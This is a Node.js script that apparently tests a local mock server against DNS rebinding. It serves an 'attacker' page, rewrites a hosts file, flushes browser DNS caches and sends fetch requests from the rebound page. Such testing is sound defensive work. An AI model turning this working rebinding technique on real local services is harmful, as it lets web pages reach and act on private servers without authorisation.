// Attacks a mock server by DNS rebinding: opens a page, lets its host name lead to the mock server, and sends requests from
// the page.
//
//   node rebind.mjs BROWSER PROGRAM HOSTS NAME PORT REQUESTS
//
// HOSTS is the hosts file of this process. NAME leads to the page on 127.0.0.2 first, then to the mock server on 127.0.0.1;
// both have the same PORT. REQUESTS is a JSON array of the arguments of fetch. Prints a JSON array of the responses.
import { once } from 'node:events';
import { writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import puppeteer from 'puppeteer-core';

const [browser, executablePath, hosts, name, port, requests] = process.argv.slice(2);
const html = '<!doctype html><title>The page of an attacker</title>';

const leadTo = (address) => writeFileSync(hosts, `127.0.0.1 localhost\n${address} ${name}\n`);

// Chromium's own resolver reads the hosts file only once
const options = {
  chrome: { args: ['--no-sandbox', '--disable-dev-shm-usage', '--disable-features=AsyncDns'] },
  firefox: { extraPrefsFirefox: { 'network.dnsCacheExpiration': 0, 'network.dnsCacheExpirationGracePeriod': 0 } },
};

// without this, Chromium remembers the address for a minute
async function forgetAddresses() {
  const tab = await driver.newPage();
  await tab.goto('chrome://net-internals/#dns');
  await (await tab.waitForSelector('#dns-view-clear-cache')).click();
  await tab.close();
}

// runs in the page
async function attack(list, ownHtml) {
  const isRebound = () => fetch('/livez').then(async (response) => (await response.text()) !== ownHtml, () => false);
  while (!(await isRebound())) await new Promise((resolve) => setTimeout(resolve, 100));
  const responses = [];
  for (const request of list) {
    const response = await fetch(...request);
    responses.push({ status: response.status, text: await response.text() });
  }
  return responses;
}

const attacker = createServer((request, response) => response.setHeader('Content-Type', 'text/html').end(html));
attacker.listen(Number(port), '127.0.0.2');
await once(attacker, 'listening');
leadTo('127.0.0.2');
const driver = await puppeteer.launch({ browser, executablePath, headless: true, ...options[browser] });
try {
  const tab = await driver.newPage();
  await tab.goto(`http://${name}:${port}/`);
  leadTo('127.0.0.1');
  attacker.close();
  attacker.closeAllConnections();
  if (browser === 'chrome') await forgetAddresses();
  console.log(JSON.stringify(await tab.evaluate(attack, JSON.parse(requests), html)));
} finally {
  await driver.close();
}
